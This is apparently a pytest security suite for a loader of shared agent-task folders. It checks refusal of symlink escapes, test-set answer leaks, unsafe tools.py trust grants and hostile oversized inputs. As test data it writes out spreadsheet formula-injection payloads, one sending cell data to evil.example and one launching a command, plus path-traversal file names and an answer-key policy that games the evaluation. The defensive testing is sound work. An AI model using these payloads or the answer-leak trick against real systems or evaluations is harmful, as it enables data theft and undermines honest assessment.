"""Hostile SOP folders (``--env sop:PATH``): escapes, test-set leaks, trust, and inputs built to break the loader.

A folder is data that users download and share. Whatever it holds, loading it must end in a working
environment or in a :class:`TaskFileError` that names the file (and field or line) and says how to fix it;
never a traceback, a hang, a file read from outside the folder, the expected outputs shown to the agent,
or tools.py run without a grant for that folder and that content.

The first part pins the findings of issue 21 in this area (each fails on the code before the fix); the
second part is a reviewer's further probes.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

import pipeline
from pipeline import cli
from pipeline.chat import format_tool_call
from pipeline.envs import TaskFileError, load_tasks, make_env

TRUST_ENV = "TURNWISE_TRUST_TOOLS"
REPO_ROOT = Path(pipeline.__file__).resolve().parents[1]

SOP = "1. Call get_order with the order id.\n2. decision is approve when the status is damaged, else deny.\n"
ROWS = "order_id,decision\nO1,approve\nO2,deny\n"
ORDERS = "order_id,status\nO1,damaged\nO2,late\n"
OUTSIDE_MARKER = "OUTSIDE_MARKER-TOKEN-4242"


def lookup_spec(name: str = "get_order", file: str | None = "orders.csv", returns: list[str] | None = None) -> dict:
    lookup = {"match": {"order_id": "order_id"}, "return": returns or ["status"]}
    if file is not None:
        lookup["file"] = file
    return {"toolSpec": {"name": name, "description": "Look an order up by id.",
                         "inputSchema": {"json": {"type": "object", "properties": {"order_id": {"type": "string"}},
                                                  "required": ["order_id"]}},
                         "x-csv-lookup": lookup}}


CODE_SPEC = {"toolSpec": {"name": "fee", "description": "The fee of an order.",
                          "inputSchema": {"json": {"type": "object", "properties": {"order_id": {"type": "string"}},
                                                   "required": ["order_id"]}}}}
# Importing it leaves a marker beside the folder: the proof that tools.py ran.
TOOLS_PY = '''from pathlib import Path

Path(__file__).resolve().parent.with_suffix(".ran").write_text("imported")


def fee(order_id):
    return {"fee": 1}
'''


def make_folder(root: Path, name: str = "f", specs: list | None = None, code: str | None = None,
                metadata: dict | None = None) -> Path:
    """A valid folder: one x-csv-lookup tool over orders.csv (and a tools.py tool with ``code``)."""
    folder = root / name
    folder.mkdir(parents=True)
    (folder / "sop.txt").write_text(SOP)
    (folder / "metadata.json").write_text(json.dumps(metadata or {
        "name": name, "input_columns": ["order_id"], "output_columns": ["decision"], "id_column": "order_id"}))
    (folder / "test_set_with_outputs.csv").write_text(ROWS)
    (folder / "orders.csv").write_text(ORDERS)
    default = [lookup_spec()] + ([CODE_SPEC] if code else [])
    (folder / "toolspecs.json").write_text(json.dumps(specs if specs is not None else default))
    if code:
        (folder / "tools.py").write_text(code)
    return folder


def agent_view(folder: Path, calls: list[tuple[str, dict]], **env_kwargs) -> str:
    """Everything the agent reads in an episode on the folder's first row that makes ``calls``."""
    task = load_tasks(f"sop:{folder}")[0]
    env = make_env(task, **env_kwargs)
    seen = [m["content"] for m in env.reset(task)]
    for name, arguments in calls:
        seen += [m["content"] for m in env.step(format_tool_call(name, arguments)).messages]
    return "\n".join(seen)


def refused(folder: Path, calls: list[tuple[str, dict]] = ()) -> str:
    """The load error's message; fails (showing what the agent saw) when the folder loads."""
    try:
        seen = agent_view(folder, list(calls))
    except TaskFileError as error:
        return str(error)
    pytest.fail(f"the folder loaded, and the agent saw:\n{seen}")


# ===================================================================================================
# Issue 21, finding 1: SOP folders can read outside themselves; the test set under another name
# ===================================================================================================


def test_finding1_a_lookup_csv_linked_to_a_file_outside_the_folder_is_refused(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_text(f"order_id,status\nO1,{OUTSIDE_MARKER}\nO2,{OUTSIDE_MARKER}\n")
    folder = make_folder(tmp_path, specs=[lookup_spec(file="evil.csv")])
    (folder / "evil.csv").symlink_to(outside / "secret.csv")
    message = refused(folder, [("get_order", {"order_id": "O1"})])
    assert "evil.csv" in message and "outside the folder" in message and "copy the file into the folder" in message
    assert OUTSIDE_MARKER not in message


@pytest.mark.parametrize("name", ["sop.txt", "toolspecs.json", "test_set_with_outputs.csv", "metadata.json"])
def test_finding1_a_folder_file_linked_to_a_file_outside_the_folder_is_refused(tmp_path, name):
    folder = make_folder(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    real = outside / name
    real.write_text((folder / name).read_text() + (f"\n{OUTSIDE_MARKER}\n" if name == "sop.txt" else ""))
    (folder / name).unlink()
    (folder / name).symlink_to(real)
    message = refused(folder)
    assert f"{folder.resolve() / name}" in message and "resolves outside the folder" in message


TEST_SET_ALIASES = {
    "copy": lambda folder: (folder / "answers.csv").write_bytes((folder / "test_set_with_outputs.csv").read_bytes()),
    "symlink": lambda folder: (folder / "answers.csv").symlink_to("test_set_with_outputs.csv"),
    "hard_link": lambda folder: os.link(folder / "test_set_with_outputs.csv", folder / "answers.csv"),
    "reordered_crlf_copy": lambda folder: (folder / "answers.csv").write_bytes(
        b"decision,order_id,extra\r\ndeny,O2,x\r\napprove,O1,y\r\napprove,O9,z\r\n"),
    "truncated_copy": lambda folder: (folder / "answers.csv").write_text("order_id,decision,note\nO1,approve,first\n"),
}


@pytest.mark.parametrize("alias", sorted(TEST_SET_ALIASES))
def test_finding1_the_test_set_is_never_served_under_another_name(tmp_path, alias):
    """A lookup may read the test set, but never return an output column, whatever the file is called."""
    folder = make_folder(tmp_path, specs=[lookup_spec(name="get_answer", file="answers.csv", returns=["decision"])])
    TEST_SET_ALIASES[alias](folder)
    message = refused(folder, [("get_answer", {"order_id": "O1"})])
    assert "answers.csv holds the test set's rows: a link to it or a copy of it" in message
    assert "hand the agent the answer" in message
    assert "field '[0].toolSpec.x-csv-lookup.return'" in message


def test_finding1_an_sop_that_is_a_link_to_the_test_set_is_refused(tmp_path):
    folder = make_folder(tmp_path)
    (folder / "sop.txt").unlink()
    (folder / "sop.txt").symlink_to("test_set_with_outputs.csv")
    message = refused(folder)
    assert "sop.txt" in message and "the agent would read the answers" in message


# ===================================================================================================
# Issue 21, finding 5: trust leaks between folders
# ===================================================================================================

ANSWER_KEY_POLICY = """import json

from pipeline.plugins import declare_policy_factory


@declare_policy_factory
def factory(task):
    answer = json.dumps(task.payload["expected"])
    return lambda messages: "<final_output>" + answer + "</final_output>"
"""


@pytest.fixture
def two_coded(tmp_path, monkeypatch) -> tuple[Path, Path]:
    """Folders A and B, each with a tools.py; no grant in the environment."""
    monkeypatch.delenv(TRUST_ENV, raising=False)
    return make_folder(tmp_path, "a", code=TOOLS_PY), make_folder(tmp_path, "b", code=TOOLS_PY)


def test_finding5_trust_given_to_one_folder_does_not_reach_another_in_the_same_process(two_coded, tmp_path,
                                                                                        monkeypatch, capsys):
    a, b = two_coded
    (tmp_path / "answer_key.py").write_text(ANSWER_KEY_POLICY)
    monkeypatch.syspath_prepend(str(tmp_path))
    split = load_tasks(f"sop:{a}")[0].split
    assert cli.main(["eval", "--env", f"sop:{a}", "--policy", "answer_key:factory", "--tasks", split,
                     "--trust-tools"]) == 0
    assert "success" in capsys.readouterr().out
    assert os.environ.get(TRUST_ENV) is None, "the grant outlived the command that was given it"
    task = load_tasks(f"sop:{b}")[0]
    with pytest.raises(PermissionError):
        make_env(task).reset(task)
    assert not b.with_suffix(".ran").exists(), "folder B's tools.py ran without a grant"


def test_finding5_the_old_trust_everything_value_grants_nothing_and_says_how_to_grant(two_coded, monkeypatch):
    a, _ = two_coded
    monkeypatch.setenv(TRUST_ENV, "1")
    task = load_tasks(f"sop:{a}")[0]
    with pytest.raises(PermissionError) as error:
        make_env(task).reset(task)
    message = str(error.value)
    assert f"{TRUST_ENV}=1 no longer grants trust" in message
    assert "--trust-tools" in message and "turnwise sop trust PATH" in message
    assert not a.with_suffix(".ran").exists()


@pytest.mark.parametrize("recipe", [{"env": {TRUST_ENV: "1"}}, {"trust_tools": True}],
                         ids=["env_block", "trust_tools_key"])
def test_finding5_a_recipe_cannot_switch_trust_on(two_coded, tmp_path, recipe):
    from pipeline.config import parse_train_args

    a, _ = two_coded
    path = tmp_path / "recipe.yaml"
    path.write_text(json.dumps({"tasks": f"sop:{a}", **recipe}))  # JSON is YAML
    with pytest.raises(ValueError) as error:
        parse_train_args(["--config", str(path)])
    message = str(error.value)
    assert str(path) in message and "a recipe cannot switch on running a folder's tools.py" in message
    assert "--trust-tools" in message
    assert TRUST_ENV not in os.environ


def test_finding5_a_grant_holds_the_folder_and_its_tools_py_digest_and_stops_when_tools_py_changes(two_coded):
    from pipeline.config import TaskArguments

    a, b = two_coded
    TaskArguments(tasks=f"sop:{a}", trust_tools=True)  # `turnwise train --env sop:A --trust-tools`
    grant = json.loads(os.environ[TRUST_ENV])
    digest = hashlib.sha256((a / "tools.py").read_bytes()).hexdigest()
    assert grant == [{"folder": str(a.resolve()), "tools_sha256": digest}]
    assert "result" in agent_view(a, [("fee", {"order_id": "O1"})])  # granted: A's tools run
    (a / "tools.py").write_text(TOOLS_PY + "\nimport os  # changed after the grant\n")
    with pytest.raises(PermissionError, match="has changed since"):
        agent_view(a, [])
    with pytest.raises(PermissionError):
        agent_view(b, [])
    assert not b.with_suffix(".ran").exists()


WORKER = """
import sys
from pipeline.envs import load_tasks, make_env
for folder in sys.argv[1:]:
    task = load_tasks("sop:" + folder)[0]
    try:
        make_env(task).reset(task)
        print(folder, "trusted")
    except PermissionError:
        print(folder, "refused")
"""


def test_finding5_a_worker_process_inherits_exactly_the_grant(two_coded):
    from pipeline.config import TaskArguments

    a, b = two_coded
    TaskArguments(tasks=f"sop:{a}", trust_tools=True)
    out = subprocess.run([sys.executable, "-c", WORKER, str(a), str(b)], capture_output=True, text=True,
                         cwd=REPO_ROOT, env=dict(os.environ), timeout=300)
    assert out.returncode == 0, out.stderr
    assert out.stdout.split("\n")[:2] == [f"{a} trusted", f"{b} refused"]


# ===================================================================================================
# Issue 21, clear errors: non-UTF-8 sop.md and toolspecs.json
# ===================================================================================================


@pytest.mark.parametrize("name, content", [
    ("sop.md", "Étape 1 : appelez get_order.\n".encode("latin-1")),
    ("toolspecs.json", json.dumps([lookup_spec()]).replace("Look", "Lóok").encode("latin-1")),
])
def test_finding_non_utf8_files_name_the_file_and_the_fix(tmp_path, capsys, name, content):
    folder = make_folder(tmp_path)
    if name == "sop.md":
        (folder / "sop.txt").unlink()
    (folder / name).write_bytes(content)
    with pytest.raises(TaskFileError) as error:
        load_tasks(f"sop:{folder}")
    assert f"{folder.resolve() / name}, line 1" in str(error.value)
    assert "is not UTF-8 text" in str(error.value) and "Save it as UTF-8" in str(error.value)
    assert cli.main(["eval", "--env", f"sop:{folder}", "--policy", "oracle"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("turnwise: error:") and name in err and "Traceback" not in err


# ===================================================================================================
# Further hostile folders, as a security reviewer would write them
# ===================================================================================================


def load_error(folder: Path) -> str:
    """The TaskFileError a folder fails with (loading it, never running it)."""
    with pytest.raises(TaskFileError) as error:
        load_tasks(f"sop:{folder}")
    message = str(error.value)
    assert "Traceback" not in message
    return message


def test_a_folder_that_is_itself_a_symlink_loads_and_reads_only_its_target(tmp_path):
    real = make_folder(tmp_path / "real")
    link = tmp_path / "linked"
    link.symlink_to(real, target_is_directory=True)
    seen = agent_view(link, [("get_order", {"order_id": "O1"})])
    assert "damaged" in seen
    assert load_tasks(f"sop:{link}")[0].payload["folder"] == str(real.resolve())


def test_a_csv_with_100k_columns_fails_fast_naming_the_file(tmp_path):
    folder = make_folder(tmp_path)
    header = ",".join(f"c{i}" for i in range(100_000))
    (folder / "orders.csv").write_text(header + "\n" + ",".join("x" * 100_000) + "\n")
    start = time.perf_counter()
    message = load_error(folder)
    assert time.perf_counter() - start < 10
    assert "orders.csv, line 1" in message and "has 100,000 columns" in message and "at most 2,000" in message


def test_a_50_mb_cell_is_refused_naming_the_file_and_line(tmp_path):
    folder = make_folder(tmp_path)
    with (folder / "orders.csv").open("w") as handle:
        handle.write("order_id,status\nO1,damaged\nO2,")
        handle.write("x" * (50 * 2**20))
        handle.write("\n")
    message = load_error(folder)
    assert "orders.csv, line 3" in message and "holds a value longer than 131,072 characters" in message


def test_formula_injection_cells_are_served_as_inert_text(tmp_path):
    formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
    folder = make_folder(tmp_path)
    (folder / "orders.csv").write_text("order_id,status\n" + "".join(
        f'O{i},"{f.replace(chr(34), chr(34) * 2)}"\n' for i, f in enumerate(formulas, 1)))
    (folder / "test_set_with_outputs.csv").write_text(
        "order_id,decision\n" + "".join(f"O{i},deny\n" for i in range(1, len(formulas) + 1)))
    task = load_tasks(f"sop:{folder}")[0]
    env = make_env(task)
    env.reset(task)
    for i, formula in enumerate(formulas, 1):
        result = json.loads(env.step(format_tool_call("get_order", {"order_id": f"O{i}"})).messages[0]["content"])
        assert result["result"] == {"status": formula}  # the exact text, never evaluated or rewritten


def test_a_toolspecs_json_nested_10000_deep_is_a_clear_error(tmp_path):
    folder = make_folder(tmp_path)
    (folder / "toolspecs.json").write_text("[" * 10_000 + "]" * 10_000)
    message = load_error(folder)
    assert "toolspecs.json" in message and "nests JSON objects or lists too deeply" in message


def test_an_item_schema_nested_past_the_limit_is_a_clear_error(tmp_path):
    spec = lookup_spec()
    schema = {"type": "string"}
    for _ in range(40):
        schema = {"type": "array", "items": schema}
    spec["toolSpec"]["inputSchema"]["json"]["properties"]["tags"] = schema
    folder = make_folder(tmp_path, specs=[spec])
    assert "nests item schemas more than 32 deep" in load_error(folder)


@pytest.mark.parametrize("file, text, key", [
    ("metadata.json", '{"output_columns": ["decision"], "input_columns": ["order_id"], "output_columns": ["order_id"]}',
     "output_columns"),
    ("toolspecs.json", '[{"toolSpec": {"name": "get_order", "name": "drop_tables", "description": "x", '
                       '"inputSchema": {"json": {"type": "object"}}}}]', "name"),
])
def test_duplicate_json_keys_are_refused_naming_the_key(tmp_path, file, text, key):
    folder = make_folder(tmp_path)
    (folder / file).write_text(text)
    message = load_error(folder)
    assert f"{file}, field '{key}': is given twice in one JSON object" in message


@pytest.mark.parametrize("name", ["__init__", "__class__", "__getattribute__"])
def test_a_tool_named_like_a_python_special_name_is_refused(tmp_path, name):
    folder = make_folder(tmp_path, specs=[lookup_spec(name=name)])
    assert f"field '[0].toolSpec.name': {name!r} is a Python special name" in load_error(folder)


def test_tools_named_after_builtins_are_only_the_folders_lookups(tmp_path):
    folder = make_folder(tmp_path, specs=[lookup_spec(name=n) for n in ("eval", "open", "exec")])
    seen = agent_view(folder, [("eval", {"order_id": "O1"}), ("open", {"order_id": "O2"})])
    assert '"result": {"status": "damaged"}, "tool": "eval"' in seen and '"status": "late"' in seen


def test_tools_py_that_is_a_directory_is_refused(tmp_path):
    folder = make_folder(tmp_path, specs=[lookup_spec(), CODE_SPEC])
    (folder / "tools.py").mkdir()
    assert "tools.py: is a directory; it must be a plain file" in load_error(folder)


def test_a_tools_py_linked_outside_the_folder_is_never_run_even_when_trusted(tmp_path):
    outside = tmp_path / "elsewhere.py"
    outside.write_text(TOOLS_PY)
    folder = make_folder(tmp_path, specs=[lookup_spec(), CODE_SPEC])
    (folder / "tools.py").symlink_to(outside)
    with pytest.raises(TaskFileError, match="tools.py: resolves outside the folder"):
        agent_view(folder, [("fee", {"order_id": "O1"})], trust_tools=True)
    assert not outside.with_suffix(".ran").exists()


@pytest.mark.parametrize("metadata, expected", [
    ({"input_columns": ["order_id", "order_id"], "output_columns": ["decision"], "id_column": "order_id"},
     "field 'input_columns': lists a column twice"),
    ({"input_columns": ["order_id"], "output_columns": ["decision", "decision"]},
     "field 'output_columns': lists a column twice"),
    ({"input_columns": ["order_id"], "output_columns": ["decision", "order_id"], "id_column": "order_id"},
     "['order_id'] are also input_columns"),
    ({"input_columns": ["order_id"], "output_columns": ["decision"], "id_column": ["order_id", "order_id"]},
     "field 'id_column'"),
])
def test_metadata_that_names_a_column_twice_is_refused(tmp_path, metadata, expected):
    assert expected in load_error(make_folder(tmp_path, metadata=metadata))


@pytest.mark.parametrize("file", [None, "test_set_with_outputs.csv"])
def test_a_lookup_over_the_test_set_serves_inputs_but_never_outputs(tmp_path, file):
    folder = make_folder(tmp_path, specs=[lookup_spec(name="echo", file=file, returns=["order_id"])])
    assert '"result": {"order_id": "O1"}' in agent_view(folder, [("echo", {"order_id": "o1"})])
    leaky = make_folder(tmp_path / "leaky", specs=[lookup_spec(name="echo", file=file, returns=["decision"])])
    assert "returns ['decision'], expected outputs" in load_error(leaky)


def test_a_lookup_over_the_test_set_without_outputs_is_allowed(tmp_path):
    folder = make_folder(tmp_path, specs=[lookup_spec(file="test_set_without_outputs.csv", returns=["order_id"])])
    (folder / "test_set_without_outputs.csv").write_text("order_id\nO1\nO2\n")
    assert '"result": {"order_id": "O1"}' in agent_view(folder, [("get_order", {"order_id": "O1"})])


@pytest.mark.parametrize("file", ["orders\u0000.csv", "/etc/passwd.csv", "../f/orders.csv", "sub/orders.csv",
                                  "..csv", ".hidden.csv", 42])
def test_a_lookup_file_that_is_not_a_plain_name_inside_the_folder_is_refused(tmp_path, file):
    folder = make_folder(tmp_path, specs=[lookup_spec(file=file)])
    message = load_error(folder)
    assert "field '[0].toolSpec.x-csv-lookup.file': must name a .csv file inside the folder" in message


def test_a_nul_byte_in_a_csv_names_the_file_and_line(tmp_path):
    folder = make_folder(tmp_path)
    (folder / "orders.csv").write_text("order_id,status\nO1,dam\x00aged\n")
    message = load_error(folder)
    assert "orders.csv, line 2" in message and "contains a NUL byte" in message


def test_json_files_with_a_byte_order_mark_load(tmp_path):
    folder = make_folder(tmp_path)
    for name in ("metadata.json", "toolspecs.json"):
        (folder / name).write_bytes(b"\xef\xbb\xbf" + (folder / name).read_bytes())
    assert "damaged" in agent_view(folder, [("get_order", {"order_id": "O1"})])


@pytest.mark.timeout(30)
def test_an_sop_that_is_a_named_pipe_is_refused_without_blocking(tmp_path):
    folder = make_folder(tmp_path)
    (folder / "sop.txt").unlink()
    os.mkfifo(folder / "sop.txt")
    assert "sop.txt: is not a regular file" in load_error(folder)


@pytest.mark.parametrize("target", ["sop.txt", "missing.txt", "/dev/zero"], ids=["loop", "dangling", "device"])
def test_bad_links_are_refused_naming_the_file(tmp_path, target):
    folder = make_folder(tmp_path)
    (folder / "sop.txt").unlink()
    (folder / "sop.txt").symlink_to(target)
    message = load_error(folder)
    expected = {"sop.txt": "cannot be resolved", "missing.txt": "is a broken link",
                "/dev/zero": "resolves outside the folder"}[target]
    assert f"{folder.resolve() / 'sop.txt'}: {expected}" in message


@pytest.mark.parametrize("name, size, cap", [("sop.txt", 2 * 2**20, "1,048,576"),
                                             ("toolspecs.json", 9 * 2**20, "8,388,608")])
def test_files_over_their_cap_are_refused_before_they_are_read(tmp_path, name, size, cap):
    folder = make_folder(tmp_path)
    (folder / name).write_text(" " * size)
    message = load_error(folder)
    assert f"{name}: is {size:,} bytes" in message and f"at most {cap} bytes" in message


def test_a_test_set_that_is_a_directory_is_refused(tmp_path):
    folder = make_folder(tmp_path)
    (folder / "test_set_with_outputs.csv").unlink()
    (folder / "test_set_with_outputs.csv").mkdir()
    assert "test_set_with_outputs.csv: is a directory" in load_error(folder)


@pytest.mark.parametrize("name", ["metadata.json", "tools.py"])
def test_other_non_utf8_files_name_the_file(tmp_path, name):
    folder = make_folder(tmp_path, specs=[lookup_spec(), CODE_SPEC], code=TOOLS_PY)
    (folder / name).write_bytes((folder / name).read_bytes() + "\n# d\xe9j\xe0 vu\n".encode("cp1252"))
    message = load_error(folder)
    assert f"{name}, line " in message and "is not UTF-8 text" in message


@pytest.mark.parametrize("value", ["yes", "TRUE", '{"folder": "/"}', "[1, 2]", "[" * 5000, "x" * 100_000,
                                   '[{"folder": "/", "tools_sha256": "0"}]'])
def test_garbage_or_foreign_grants_trust_nothing_and_say_why(two_coded, monkeypatch, value):
    a, _ = two_coded
    monkeypatch.setenv(TRUST_ENV, value)
    with pytest.raises(PermissionError) as error:
        agent_view(a, [])
    message = str(error.value)
    assert "tools.py is Python code" in message and "--trust-tools" in message and len(message) < 2_000
    assert not a.with_suffix(".ran").exists()


def test_a_grant_written_with_a_symlinked_path_trusts_the_real_folder_only(two_coded, monkeypatch, tmp_path):
    a, b = two_coded
    alias = tmp_path / "alias"
    alias.symlink_to(a, target_is_directory=True)
    digest = hashlib.sha256((a / "tools.py").read_bytes()).hexdigest()
    monkeypatch.setenv(TRUST_ENV, json.dumps([{"folder": str(alias), "tools_sha256": digest}]))
    assert '"fee": 1' in agent_view(a, [("fee", {"order_id": "O1"})])
    with pytest.raises(PermissionError):  # B has the same tools.py bytes, but the grant names A
        agent_view(b, [])


def test_explicit_trust_covers_only_the_folder_it_names(two_coded):
    from pipeline.envs.sop.env import SopEnv

    a, b = two_coded
    env = SopEnv(folder=a, trust_tools=True)
    task_b = load_tasks(f"sop:{b}")[0]
    with pytest.raises(PermissionError):
        env.reset(task_b)
    with pytest.raises(ValueError, match="trusts one folder's tools.py: name it"):
        make_env("sop", trust_tools=True)
    assert not b.with_suffix(".ran").exists()


@pytest.mark.parametrize("message", [
    "<final_output>" * 6_300,  # 88 KB of unclosed tags
    "<final_output>" + "{" * 88_000 + "</final_output>",
    "<final_output>" + '{"a":' * 30_000 + "</final_output>",
    "<final_output>" + '{"a":' * 13_000 + "</final_output>",  # under the body cap: JSON nesting past the reader's limit
    "<final_output>" + "{" * 65_000 + "</final_output>",
    "<final_output>" + "[" * 50_000 + "</final_output>",
    '<final_output>{"decision": ' + "9" * 5_000 + "}</final_output>",
    "</final_output><final_output>" * 3_000,
])
def test_hostile_final_outputs_end_the_episode_quickly_without_an_exception(tmp_path, message):
    """A malformed final output under the message cap ends the episode as not completed; one over the cap is
    answered with a tool error without being read (pipeline.chat.MAX_MESSAGE_CHARS). Either way, fast."""
    from pipeline.chat import MAX_MESSAGE_CHARS

    folder = make_folder(tmp_path)
    task = load_tasks(f"sop:{folder}")[0]
    env = make_env(task)
    env.reset(task)
    start = time.perf_counter()
    step = env.step(message)
    elapsed = time.perf_counter() - start
    if len(message) > MAX_MESSAGE_CHARS:
        assert not step.done and step.info["tool_errors"][0]["kind"] == "message_too_long"
    else:
        assert step.done and not env.outcome().completed and env.outcome().details["parse_error"]
    assert elapsed < 1.0, elapsed


def test_final_output_parsing_is_linear(tmp_path):
    from pipeline.envs.sop.env import parse_final_output

    def cost(n: int) -> float:
        text = "<final_output>x" * n + "</final_output>" * (n // 2)
        start = time.perf_counter()
        for _ in range(3):
            parse_final_output(text)
        return time.perf_counter() - start

    cost(1_000)  # warm up
    small, large = cost(20_000), cost(80_000)
    assert large < 12 * max(small, 1e-3), (small, large)  # 4x the input: ~4x the time, never ~16x
